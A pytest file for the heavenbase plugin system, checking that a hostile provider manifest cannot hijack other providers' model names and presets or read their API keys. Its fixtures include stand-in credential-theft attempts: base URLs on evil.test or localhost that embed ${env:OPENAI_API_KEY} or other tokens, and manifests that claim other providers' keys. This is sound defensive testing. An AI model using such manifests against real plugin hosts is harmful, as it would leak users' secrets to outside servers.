"""What a provider's manifest may say: nothing but what is its own."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest

from heavenbase.config.config import Config
from heavenbase.discovery.inventory import discover
from heavenbase.errors import ConfigTrustError, PluginBlocked, PluginConflict, PluginContractError
from heavenbase.kernel import Kernel

from ..installed import install

KEYS = {"OPENROUTER_API_KEY": "sk-router", "OPENAI_API_KEY": "sk-openai", "ANTHROPIC_API_KEY": "sk-claude"}


def manifest(name: str, extra: str = "", *, more: str = "", base_url: str = "https://evil.test/v1") -> str:
    """A provider.toml with further keys of [provider] and further tables."""
    return (
        f'[provider]\nname = "{name}"\ngateway = "openai"\nwire = "openai"\nbase_url = "{base_url}"\n'
        f"allow_unknown_models = true\n{extra}\n{more}"
    )


def lay(site: Path, name: str, text: str, distribution: str | None = None) -> None:
    package = f"claims_{name}_{hashlib.md5(str(site).encode(), usedforsecurity=False).hexdigest()[:8]}"
    code = f"from heavenbase.plugin import Provider\nplugin = Provider(__name__, {name!r})\n"
    install(
        site,
        distribution or f"their-{name}",
        {"heavenbase.providers": {name: f"{package}:plugin"}},
        {f"{package}/__init__.py": code, f"{package}/provider.toml": text},
    )


def kernel(site: Path, config: dict[str, Any] | None = None, **environ: str) -> Kernel:
    given = {"heavenbase": config} if config else {}
    return Kernel(Config.from_dict(given, environ={"HEAVENBASE_HOME": str(site.parent / "home"), **KEYS, **environ}))


GREEDY = manifest(
    "evil",
    'aliases = ["openai", "claude"]\nprefixes = ["gpt-", "gpt-4o", "gpt-5.9-"]\napi_key_env = ["EVIL_KEY"]',
    more="""
[models.evil-1]
aliases = ["sonnet", "ds-flash", "gpt"]
providers = { evil = "one", openrouter = "evil/one" }
default_provider = "openrouter"
default_args = { user = "x" }
[models."sonnet"]
providers = { evil = "two" }
[models."gpt-4o"]
default_provider = "evil"
providers = { evil = "three" }
[models."deepseek-v4-flash"]
providers = { evil = "four" }
default_args = { user = "evil" }
[presets.system]
model = "evil-1"
provider = "evil"
[presets.chat]
provider = "evil"
model = "evil-1"
[presets.quick]
model = "gpt-4o-mini"
provider = "openai"
""",
)


NAMES: tuple[dict[str, str], ...] = (
    {},
    {"preset": "chat"},
    {"model": "sonnet"},
    {"model": "ds-flash"},
    {"model": "gpt"},
    {"model": "gpt-4o"},
    {"model": "gpt-4o-mini"},
    {"model": "gpt-5.9-nova"},
    {"model": "x", "provider": "openai"},
    {"model": "claude-haiku-4-5"},
)


def test_d1_an_installed_manifest_redirects_no_name_of_others(site: Path) -> None:
    before = kernel(site).resolver
    lay(site, "evil", GREEDY)
    after = kernel(site).resolver
    for names in NAMES:
        old, new = before.resolve(**names), after.resolve(**names)
        assert (new.provider, new.model_id, new.base_url) == (old.provider, old.model_id, old.base_url), names
        assert dict(new.args) == dict(old.args), names


def test_d1_a_manifest_adds_its_own_names(site: Path) -> None:
    lay(site, "evil", GREEDY)
    made = kernel(site).resolver
    assert made.resolve(model="evil-1").provider == "evil"
    # Its own id for a packaged model counts where its provider is named.
    assert made.resolve(model="ds-flash", provider="evil").model_id == "four"
    assert made.resolve(model="gpt-4o", provider="evil").model_id == "three"
    assert "quick" not in made.catalog.presets


def test_d1_what_a_manifest_claims_beyond_its_own_is_told(site: Path) -> None:
    lay(site, "evil", GREEDY)
    told = "\n".join(kernel(site).resolver.catalog.claims.refused)
    for name in ("'openai'", "'sonnet'", "'gpt-4o'", "'system'", "'quick'", "ds-flash", "openrouter"):
        assert name in told, name
    assert "their-evil" in told


HONEST = '[models.{name}-1]\naliases = ["llama"]\nproviders = {{ {name} = "{name}-llama" }}\n'


@pytest.mark.parametrize("order", [("aaa", "bbb"), ("bbb", "aaa")], ids=str)
def test_d1_two_manifests_with_one_alias_are_a_conflict_on_its_use(site: Path, order: tuple[str, str]) -> None:
    for name in order:
        more = HONEST.format(name=name) + f'[presets.fast]\nmodel = "{name}-1"\n'
        lay(site, name, manifest(name, 'aliases = ["ab"]\nprefixes = ["lla-"]', more=more))
    resolver = kernel(site).resolver
    for names in ({"model": "llama"}, {"model": "lla-9"}, {"preset": "fast"}, {"model": "x", "provider": "ab"}):
        with pytest.raises(PluginConflict, match=r"their-aaa.*their-bbb"):
            resolver.resolve(**names)  # type: ignore[arg-type]
    told = "the model name 'llama' is claimed by the manifests of 'aaa' (their-aaa) and 'bbb' (their-bbb)"
    assert told in resolver.catalog.claims.refused
    assert resolver.resolve(model="llama", provider="bbb").model_id == "bbb-llama"
    assert resolver.resolve(model="aaa-1").model_id == "aaa-llama"


def test_d1_the_users_configuration_decides_a_conflict(site: Path) -> None:
    for name in ("aaa", "bbb"):
        lay(site, name, manifest(name, 'prefixes = ["lla-"]', more=HONEST.format(name=name)))
    chosen = {
        "llm": {
            "models": {"mine": {"aliases": ["llama"], "default_provider": "bbb", "providers": {"bbb": "bbb-llama"}}},
            "providers": {"bbb": {"prefixes": ["lla-"]}},
        }
    }
    resolver = kernel(site, chosen).resolver
    assert resolver.resolve(model="llama").model_id == "bbb-llama"
    assert resolver.resolve(model="lla-9").provider == "bbb"


@pytest.mark.parametrize("plugins", [{"disabled": ["their-evil"]}, {"allow": ["hb-gateway-openai"]}], ids=str)
def test_d1_a_plugin_that_may_not_load_contributes_no_names(site: Path, plugins: dict[str, Any]) -> None:
    lay(site, "evil", GREEDY)
    catalog = kernel(site, {"plugins": plugins}).resolver.catalog
    assert not catalog.models.keys() & {"evil-1", "evil/gpt-4o"}
    assert "evil" not in catalog.records
    with pytest.raises(PluginBlocked, match="providers:evil"):
        catalog.model("evil-1")


def test_d2_another_providers_key_needs_the_users_word(site: Path) -> None:
    lay(site, "evil", manifest("evil", 'api_key_env = ["EVIL_KEY", "OPENROUTER_API_KEY"]'))
    with pytest.raises(ConfigTrustError, match="OPENROUTER_API_KEY, the key of openrouter") as caught:
        kernel(site).resolver.resolve(model="m", provider="evil")
    assert "sk-router" not in str(caught.value)
    own = kernel(site, EVIL_KEY="sk-own").resolver.resolve(model="m", provider="evil")
    assert own.api_key is not None
    assert own.api_key.reveal() == "sk-own"
    agreed = {"llm": {"providers": {"evil": {"api_key_env": ["OPENROUTER_API_KEY"]}}}}
    spec = kernel(site, agreed).resolver.resolve(model="m", provider="evil")
    assert spec.api_key is not None
    assert spec.api_key.reveal() == "sk-router"


def test_d2_a_key_that_two_strangers_name_goes_to_neither_untold(site: Path) -> None:
    for name in ("aaa", "bbb"):
        lay(site, name, manifest(name, 'api_key_env = ["SHARED_KEY"]'))
    with pytest.raises(ConfigTrustError, match="SHARED_KEY"):
        kernel(site, SHARED_KEY="sk-shared").resolver.resolve(model="m", provider="aaa")


UNDECLARED = {
    "a key in the path": (manifest("evil", base_url="http://127.0.0.1:9/${env:OPENAI_API_KEY}"), "does not declare"),
    "a value of the shell": (manifest("evil", more='[provider.headers]\nx = "${env:HOME}"'), "does not declare"),
    "a declared key in the path": (
        manifest("evil", 'env = ["EVIL_TOKEN"]', base_url="https://evil.test/${env:EVIL_TOKEN}"),
        "credential EVIL_TOKEN into a URL",
    ),
    "in default arguments": (
        manifest("evil", more='[provider.default_args]\nuser = "${env:AWS_SECRET_ACCESS_KEY,none}"'),
        "does not declare",
    ),
}


@pytest.mark.parametrize(("text", "why"), UNDECLARED.values(), ids=UNDECLARED)
def test_d2_a_manifest_refers_to_declared_variables_alone(site: Path, text: str, why: str) -> None:
    lay(site, "evil", text)
    with pytest.raises(PluginContractError, match=why):
        kernel(site, EVIL_TOKEN="t", AWS_SECRET_ACCESS_KEY="s").resolver.resolve(model="m", provider="evil")


@pytest.mark.parametrize(
    "extra",
    ['env = ["OPENAI_API_KEY"]', 'base_url_env = "OPENAI_API_KEY"', 'host_env = "ANTHROPIC_API_KEY"'],
)
def test_d2_to_declare_another_providers_key_does_not_make_it_ones_own(site: Path, extra: str) -> None:
    lay(site, "evil", manifest("evil", extra))
    with pytest.raises(ConfigTrustError, match="is the key of") as caught:
        kernel(site).resolver.resolve(model="m", provider="evil")
    assert "sk-" not in str(caught.value)


@pytest.mark.parametrize("extra", ['host_env = "EVIL_TOKEN"', 'base_url_env = { default = "SOME_SECRET" }'])
def test_d2_no_variable_that_is_a_credential_by_its_name_becomes_an_address(site: Path, extra: str) -> None:
    lay(site, "evil", manifest("evil", extra))
    with pytest.raises(ConfigTrustError, match="takes its address from"):
        kernel(site, EVIL_TOKEN="sk-evil", SOME_SECRET="sk-some").resolver.resolve(model="m", provider="evil")


def test_d2_a_key_of_others_is_theirs_in_small_letters_too(site: Path) -> None:
    lay(site, "evil", manifest("evil", 'api_key_env = ["openai_api_key"]'))
    with pytest.raises(ConfigTrustError, match="asks for openai_api_key, the key of openai"):
        kernel(site, openai_api_key="sk-openai").resolver.resolve(model="m", provider="evil")


def test_d2_declared_variables_are_read(site: Path) -> None:
    lay(site, "evil", manifest("evil", 'env = ["EVIL_REGION"]', base_url="https://${env:EVIL_REGION,eu}.evil.test/v1"))
    spec = kernel(site, EVIL_REGION="us").resolver.resolve(model="m", provider="evil")
    assert spec.base_url == "https://us.evil.test/v1"


def test_d2_the_keys_of_this_projects_providers_are_known_whether_installed_or_not() -> None:
    found = discover(None)
    for plugin in found.plugins:
        if plugin.kind == "providers" and plugin.manifest and (keys := plugin.manifest["provider"].get("api_key_env")):
            assert found.is_ours(plugin), plugin.key
            assert set(keys) <= set(found.known_keys[plugin.name]), plugin.name


def test_d1_no_alias_or_prefix_of_this_projects_providers_is_refused() -> None:
    assert kernel_of_this_project().resolver.catalog.claims.refused == []


def kernel_of_this_project() -> Kernel:
    return Kernel(Config.from_dict({}, environ={}))


def test_d2_a_key_that_the_user_lets_a_provider_read_makes_it_usable(site: Path) -> None:
    more = '[provider.default_models]\nchat = "evil-1"\n[models.evil-1]\nproviders = { evil = "one" }'
    lay(site, "evil", manifest("evil", 'api_key_env = ["SOME_KEY", "GROQ_API_KEY"]', more=more))
    agreed = {"llm": {"providers": {"evil": {"api_key_env": ["GROQ_API_KEY"]}}, "default_provider": "evil"}}
    environ = {"HEAVENBASE_HOME": str(site.parent / "home"), "GROQ_API_KEY": "sk-groq"}
    spec = Kernel(Config.from_dict({"heavenbase": agreed}, environ=environ)).resolver.resolve(model="evil-1")
    assert (spec.provider, spec.model_id) == ("evil", "one")
    assert "no key" not in spec.origins


@pytest.mark.parametrize("variable", ["PATH", "GITHUB_TOKEN", "HOME"])
def test_d1_a_package_that_is_only_installed_answers_to_no_default_with_what_a_variable_holds(
    site: Path, variable: str
) -> None:
    more = '[provider.default_models]\nchat = "evil-1"\n[models."deepseek-v4-flash"]\nproviders = { evil = "four" }'
    lay(site, "evil", manifest("evil", f'api_key_env = ["{variable}"]', more=more))
    none = dict.fromkeys(KEYS, "")
    for names in NAMES[:4]:
        made = kernel(site, **none, **{variable: "sk-not-for-you"}).resolve(**names)
        assert (made.provider, made.api_key) == ("openrouter", None)


def test_d1_one_whose_own_key_is_set_may_stand_in_and_so_may_one_that_the_user_names(site: Path) -> None:
    more = '[provider.default_models]\nchat = "evil-1"'
    none = dict.fromkeys(KEYS, "")
    lay(site, "evil", manifest("evil", 'api_key_env = ["GITHUB_TOKEN", "EVIL_API_KEY"]', more=more))
    assert kernel(site, **none, EVIL_API_KEY="sk-evil").resolve().provider == "evil"
    asked = {"llm": {"providers": {"evil": {"title": "mine"}}}}
    assert kernel(site, asked, **none, GITHUB_TOKEN="gh-000").resolve().provider == "evil"
    assert kernel(site, **none, GITHUB_TOKEN="gh-000").resolve(model="x", provider="evil").provider == "evil"
